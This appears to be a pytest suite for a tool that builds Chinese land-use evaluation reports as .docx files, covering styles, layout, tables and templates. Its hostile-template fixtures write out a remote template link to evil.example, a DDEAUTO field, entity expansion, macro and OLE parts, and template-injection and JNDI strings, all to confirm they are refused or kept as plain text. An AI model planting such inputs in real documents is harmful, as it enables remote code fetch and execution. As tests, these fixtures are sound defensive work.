"""The .docx files: styles, tables, headers, the same bytes; templates that are refused; pages in LibreOffice."""

from __future__ import annotations

import dataclasses
import io
import re
import zipfile

import docx
import pypdfium2
import pytest
from docx.oxml.ns import qn
from reports_builders import as_pdf, district, issues, project, small

from landuse.errors import InputError
from landuse.reports.content.report import one_page, report
from landuse.reports.word import read_template, template_bytes, write_document
from landuse.reports.word.package import packed, unpacked
from landuse.reports.word.styles import FALLBACKS, REQUIRED
from landuse.reports.word.tables import Need, fitted, number

DRAFT = issues(("error", "TEXT_IN_NUMBER"))
LONG = "安澜县城东片区新一代信息技术与高端装备制造融合发展示范产业园区(二期扩展区域)北部组团配套服务中心地块"


@pytest.fixture(scope="module")
def content() -> bytes:
    return write_document(report(district()), template_bytes("report"))


def opened(data: bytes):
    return docx.Document(io.BytesIO(data))


def changed(data: bytes, **parts) -> bytes:
    """Return a package with parts replaced or added; keyword = name with __ for / and _ for . at its end."""
    files = unpacked(data)
    for name, value in parts.items():
        path = name.replace("__", "/")
        old = files.get(path, b"").decode()
        files[path] = value(old).encode() if callable(value) else value
    return packed(files)


def refused(tmp_path, data: bytes, name: str = "my.docx") -> str:
    path = tmp_path / name
    path.write_bytes(data)
    with pytest.raises(InputError) as caught:
        read_template(path, "[report] template")
    return str(caught.value)


# ------------------------------------------------------------------------------------------------ file


def test_every_style_names_its_east_asian_font_and_each_has_a_declared_fallback(content):
    document = opened(content)
    kinds = 0
    for style in document.styles:
        fonts = style.element.find(f".//{qn('w:rFonts')}")
        assert fonts is not None, style.name
        assert fonts.get(qn("w:eastAsia")), style.name
        assert not [name for name in fonts.attrib if "Theme" in name], style.name
        kinds += 1
    assert kinds >= 19
    table = unpacked(content)["word/fontTable.xml"].decode()
    for font, other in FALLBACKS.items():
        assert re.search(f'w:name="{font}"><w:altName w:val="{other}"/>', table), font
    defaults = document.styles.element.find(f"{qn('w:docDefaults')}//{qn('w:rFonts')}")
    assert defaults.get(qn("w:eastAsia")) == "仿宋_GB2312"


def test_the_page_is_that_of_an_official_document(content):
    first, lying, last = (opened(content).sections[place] for place in (0, 1, -1))
    assert (round(first.page_width.mm), round(first.page_height.mm)) == (210, 297)
    assert [round(side.mm) for side in (first.top_margin, first.right_margin, first.left_margin)] == [37, 26, 28]
    assert lying.page_width > lying.page_height
    assert last.page_width < last.page_height
    body = opened(content).styles["报告正文"].element
    assert body.find(f".//{qn('w:spacing')}").get(qn("w:line")) == "560"  # 28 points
    assert body.find(f".//{qn('w:ind')}").get(qn("w:firstLineChars")) == "200"
    assert body.find(f".//{qn('w:sz')}").get(qn("w:val")) == "32"  # 三号


def test_headers_of_tables_repeat_and_no_row_breaks_across_pages(content):
    tables = opened(content).tables
    assert len(tables) > 15
    for table in tables:
        rows = table._tbl.tr_lst
        assert rows[0].find(f".//{qn('w:tblHeader')}") is not None
        assert all(row.find(f".//{qn('w:cantSplit')}") is not None for row in rows)
        widths = [int(cell.get(qn("w:w"))) for cell in table._tbl.iter(qn("w:gridCol"))]
        assert sum(widths) in (8844, 14570)  # exactly the text of a page that stands, or lies


def test_headings_are_ready_for_the_table_of_contents_and_captions_are_numbered_by_fields(content):
    xml = unpacked(content)["word/document.xml"].decode()
    heads = [p for p in opened(content).paragraphs if p.style.name in ("Heading 1", "Heading 2")]
    assert heads[0].text == "一、工作背景与依据"
    assert len(re.findall(r'w:name="_Toc\d{6}"', xml)) == len(heads)
    assert 'TOC \\o "1-2"' in xml
    assert xml.count(" PAGEREF ") == len(heads)
    assert "SEQ 表" in xml
    assert "SEQ 图" in xml
    assert '<w:updateFields w:val="true"/>' in unpacked(content)["word/settings.xml"].decode()
    footers = [part.decode() for name, part in unpacked(content).items() if "footer" in name]
    assert sum(" PAGE " in part for part in footers) == 2  # not on the cover


def test_the_same_run_gives_the_same_bytes_and_no_clock_no_name_stands_in_them(content):
    assert write_document(report(district()), template_bytes("report")) == content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    properties = opened(content).core_properties
    assert properties.created.date().isoformat() == "2026-06-30"
    assert properties.last_modified_by == ""
    assert properties.author == ""
    assert not [name for name in unpacked(content) if "thumbnail" in name or "customXml" in name]


def test_the_stamp_stands_on_the_first_page_and_in_every_header(content):
    document = opened(content)
    assert "（征求意见稿）" in [p.text for p in document.paragraphs[:20]]
    headers = [part.decode() for name, part in unpacked(content).items() if "/header" in name]
    assert len(headers) == 3
    assert all("征求意见稿" in part for part in headers)
    assert not any("WaterMark" in part for part in headers)


def test_a_run_with_errors_bears_its_watermark_on_every_page():
    parts = unpacked(write_document(report(small(issues=DRAFT)), template_bytes("report")))
    headers = [part.decode() for name, part in parts.items() if "/header" in name]
    assert all('string="草稿"' in part and "草稿" in part for part in headers)


def test_signs_that_xml_cannot_hold_and_markup_in_names_do_no_harm():
    base = small()
    holder = ["<w:p>&\x0b甲", "{{正文}}{{标题}}", "丙", "丙", "丁", None]
    rows = base.parcels.table.assign(holder=holder)
    data = write_document(
        report(dataclasses.replace(base, parcels=base.parcels.with_table(rows))), template_bytes("report")
    )
    cells = {cell.text for table in opened(data).tables for row in table.rows for cell in row.cells}
    assert "<w:p>&甲" in cells
    assert "{{正文}}{{标题}}" in cells


@pytest.mark.parametrize(
    ("value", "fmt", "printed"),
    [
        (1234.5, "A", "1,234.50"),
        (167.4878, "M", "167.4878"),
        (20.0, "M", "20.00"),
        (0.15625, "P", "15.6%"),
        (-0.0, "B", "0.00"),
    ],
)
def test_numbers_of_a_table_have_the_formats_of_the_ledger(value, fmt, printed):
    assert number(value, fmt) == printed


def test_widths_fill_the_page_and_numbers_are_never_squeezed():
    columns = [Need(6, 6), Need(9, 64), Need(12, 12)]
    points, widths = fitted(columns, 8844, 10.5)
    assert points == 10.5
    assert sum(widths) == 8844
    narrow, widths = fitted([Need(12, 12)] * 9 + [Need(9, 64)] * 4, 8844, 10.5)
    assert narrow == 7.0
    assert sum(widths) == 8844


# ------------------------------------------------------------------------------------------- templates


def test_the_default_template_may_be_saved_changed_and_used(tmp_path):
    own = changed(
        template_bytes("report"), **{"word__document.xml": lambda old: old.replace("{{编制单位}}", "某局{{项目}}")}
    )
    (tmp_path / "my.docx").write_bytes(own)
    data = write_document(report(small()), read_template(tmp_path / "my.docx", ""))
    assert "某局安澜县（示例）" in {p.text.replace("(", "（").replace(")", "）") for p in opened(data).paragraphs}


def test_a_mark_that_word_has_broken_into_runs_is_filled_all_the_same(tmp_path):
    broken = "<w:r><w:t>{{标</w:t></w:r><w:r><w:t>题}}</w:t></w:r>"
    own = changed(
        template_bytes("report"),
        **{"word__document.xml": lambda old: old.replace("<w:r><w:t>{{标题}}</w:t></w:r>", broken)},
    )
    (tmp_path / "my.docx").write_bytes(own)
    data = write_document(report(small()), read_template(tmp_path / "my.docx", ""))
    assert any("工业用地评价分析报告" in p.text for p in opened(data).paragraphs[:12])


def test_a_template_made_in_word_without_our_styles_is_told_which_are_missing(tmp_path):
    plain = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("{{标题}}")
    document.save(plain)
    told = refused(tmp_path, plain.getvalue())
    assert "报告正文" in told
    assert "表格文字" in told
    assert "{{印记}}, {{正文}}" in told
    assert "{{标题}}" not in told.split("placeholders are missing:")[1].split("\n")[0].split("→")[0]


def test_a_template_whose_headers_name_no_stamp_gets_it_there(tmp_path):
    bare = {f"word__header{n}.xml": lambda old: old.replace("{{页眉}}  {{印记}}", "某局") for n in (1, 2, 3)}
    (tmp_path / "my.docx").write_bytes(changed(template_bytes("report"), **bare))
    parts = unpacked(write_document(report(small()), read_template(tmp_path / "my.docx", "")))
    assert all("某局" in p.decode() and "征求意见稿" in p.decode() for n, p in parts.items() if "/header" in n)


TARGET = 'Target="http://evil.example/a.dotm" TargetMode="External"'
RELATION = f'<Relationship Id="rIdX" Type="http://x/attachedTemplate" {TARGET}/></Relationships>'
HOSTILE = {
    "macro": ({"[Content_Types].xml": lambda old: old.replace(
        "wordprocessingml.document.main+xml", "wordprocessingml.document.macroEnabled.main+xml")}, ".docm"),
    "vba": ({"word__vbaProject.bin": b"\xd0\xcf"}, "vbaProject"),
    "ole": ({"word__embeddings__oleObject1.bin": b"\xd0\xcf"}, "oleObject1"),
    "external": ({"word___rels__document.xml.rels": lambda old: old.replace("</Relationships>", RELATION)},
                 "evil.example"),
    "entity": ({"word__styles.xml": lambda old: old.replace(
        "?>", '?><!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]>', 1)}, "实体"),
    "broken xml": ({"word__settings.xml": b"<w:settings"}, "word/settings.xml"),
    "dde": ({"word__document.xml": lambda old: old.replace(
        "<w:body>", '<w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\x "y"</w:instrText></w:r></w:p>')}, "域"),
    "bomb": ({"word__media__a.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}, "炸弹"),
}  # fmt: skip


def test_what_another_program_would_run_in_a_template_is_text_and_stays_as_it_is(tmp_path):
    odd = "{% for x in y %}{{ 7*7 }}{{标题.__class__}}{{缺}}${jndi:x}"
    own = changed(template_bytes("report"), **{"word__document.xml": lambda old: old.replace("{{编制单位}}", odd)})
    (tmp_path / "my.docx").write_bytes(own)
    data = write_document(report(small()), read_template(tmp_path / "my.docx", ""))
    assert odd in [p.text for p in opened(data).paragraphs]


def test_a_template_of_no_bytes_and_one_of_too_many_are_refused(tmp_path):
    assert "不是Word文档" in refused(tmp_path, b"")
    huge = tmp_path / "huge.docx"
    with huge.open("wb") as file:
        file.truncate(20_000_001)  # the limit is 20 MB
    with pytest.raises(InputError, match="过大"):
        read_template(huge, "[report] template")


def test_names_of_sixty_signs_stand_whole_in_the_lists_of_the_report():
    base = small()
    rows = base.parcels.table.assign(holder=LONG, park=LONG)
    data = write_document(
        report(dataclasses.replace(base, parcels=base.parcels.with_table(rows))), template_bytes("report")
    )
    printed = LONG.replace("(", "（").replace(")", "）")  # a park is a word of the toolkit, a holder is not
    cells = {cell.text for table in opened(data).tables for row in table.rows for cell in row.cells}
    assert LONG in cells
    assert printed in cells
    for table in opened(data).tables:
        widths = [int(cell.get(qn("w:w"))) for cell in table._tbl.iter(qn("w:gridCol"))]
        assert sum(widths) in (8844, 14570)
        assert min(widths) > 300  # no column is squeezed to a thread


def test_a_few_long_cells_do_not_take_the_width_that_many_need():
    from landuse.reports.content.model import SheetColumn
    from landuse.reports.word.tables import needs

    texts = [SheetColumn("a", "取值", "T", 10), SheetColumn("b", "依据", "T", 10)]
    rows = [["甲" * 4, "乙" * 30]] * 9 + [["甲" * 60, "乙" * 30]]
    one, other = needs(texts, ["取值", "依据"], rows)
    assert one.full < other.full  # 9 cells of 8 half-width signs and one of 120, against ten of 60
    assert one.full > 8


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_template_is_refused_with_the_reason(kind, tmp_path):
    parts, told = HOSTILE[kind]
    assert told in refused(tmp_path, changed(template_bytes("report"), **parts))


@pytest.mark.parametrize("part", sorted(set(unpacked(template_bytes("report"))) - {"word/fontTable.xml"}))
def test_a_template_without_one_of_its_parts_or_with_another_in_its_place_is_refused(part, tmp_path):
    parts = unpacked(template_bytes("report"))
    refused(tmp_path, packed({name: content for name, content in parts.items() if name != part}))
    refused(tmp_path, packed({**parts, part: b"<a/>"}))


def test_what_is_no_word_document_is_refused(tmp_path):
    assert "不是Word文档" in refused(tmp_path, b"PK\x03\x04 cut off")
    assert "不是Word文档" in refused(tmp_path, template_bytes("report")[:3000])
    assert "不是Word文档" in refused(tmp_path, packed({"a.txt": b"a"}))
    with pytest.raises(InputError, match=r"nowhere\.docx|无法读取"):
        read_template(tmp_path / "nowhere.docx", "[report] template = nowhere.docx")
    with pytest.raises(InputError):
        read_template(tmp_path, "a folder")
    dotx = changed(
        template_bytes("report"), **{"[Content_Types].xml": lambda old: old.replace("document.main", "template.main")}
    )
    assert "另存为.docx" in refused(tmp_path, dotx)
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        archive.writestr("[Content_Types].xml", "<a/>")
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("[Content_Types].xml", "<a/>")
    assert "结构异常" in refused(tmp_path, twice.getvalue())


def test_the_styles_a_template_must_have_are_those_of_the_default_one():
    assert set(REQUIRED) <= {style.name for style in opened(template_bytes("report")).styles}


# ------------------------------------------------------------------------------------------ LibreOffice


@pytest.mark.slow
def test_libreoffice_sets_the_report_with_page_numbers_stamp_and_pages_that_lie(soffice, tmp_path, content):
    pages = as_pdf(content, soffice, tmp_path).pages
    sizes = [(round(float(page.mediabox.width)), round(float(page.mediabox.height))) for page in pages]
    assert {(595, 842), (842, 595)} == set(sizes)
    texts = [page.extract_text() for page in pages]
    assert all("征求意见稿" in text for text in texts)
    assert "— 2 —" in texts[1]
    assert "— 1 —" not in texts[0]
    assert "一、工作背景与依据" in "".join(texts)
    assert all(len(text.replace("\n", "")) > 60 for text in texts[1:])  # no page but the cover is nearly empty


@pytest.mark.slow
def test_a_draft_bears_its_word_on_every_page_in_libreoffice(soffice, tmp_path):
    bare = small(issues=DRAFT, project=project(report={"charts": False, "chapters": ("causes",)}))
    pages = as_pdf(write_document(report(bare), template_bytes("report")), soffice, tmp_path).pages
    assert len(pages) > 2
    for page in pypdfium2.PdfDocument(tmp_path / "a.pdf"):
        pixels = page.render(scale=0.5, grayscale=True).to_numpy()
        pale = float(((pixels > 215) & (pixels < 250)).mean())
        assert pale > 0.02  # light grey: readable through


@pytest.mark.slow
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_summary_is_exactly_one_page_also_with_names_of_sixty_signs(lang, soffice, tmp_path):
    assert len(LONG) > 50
    base = district(project=project(lang, print={"region_name": LONG}))
    parks = {name: f"{LONG}{place}" for place, name in enumerate(base.parcels.table["park"].dropna().unique())}
    rows = base.parcels.table.assign(park=base.parcels.table["park"].map(parks))
    data = write_document(
        one_page(dataclasses.replace(base, parcels=base.parcels.with_table(rows))), template_bytes("page")
    )
    assert len(as_pdf(data, soffice, tmp_path).pages) == 1
